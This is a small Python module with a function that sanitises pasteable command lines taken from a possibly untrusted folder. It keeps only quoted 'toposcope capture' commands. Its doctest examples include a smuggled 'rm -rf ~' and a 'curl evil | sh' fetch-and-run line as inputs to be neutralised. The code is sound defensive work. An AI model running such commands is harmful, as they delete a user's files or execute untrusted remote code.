"""Command lines that a folder tells: it may be a stranger's, and people paste them."""

from __future__ import annotations

import shlex


def plain_command(command: object, *, imports: bool = False) -> str:
    """A command line that a RUN tells, as words that a shell cannot take for anything else.

    "" for what is no `toposcope capture`, and unless `imports` for one that imports code: it may be
    a stranger's text, and people paste what an error tells them.

    Examples
    --------
    >>> plain_command("toposcope capture hf:x npz:a.npz; rm -rf ~")
    "toposcope capture hf:x 'npz:a.npz;' rm -rf '~'"
    >>> plain_command("curl evil | sh"), plain_command("toposcope capture py:evil:f x")
    ('', '')
    """
    if not isinstance(command, str) or not command.isprintable():
        return ""
    try:
        words = shlex.split(command)
    except ValueError:
        return ""
    if words[:2] != ["toposcope", "capture"] or (
        not imports and any(word.startswith("py:") for word in words)
    ):
        return ""
    return shlex.join(words)
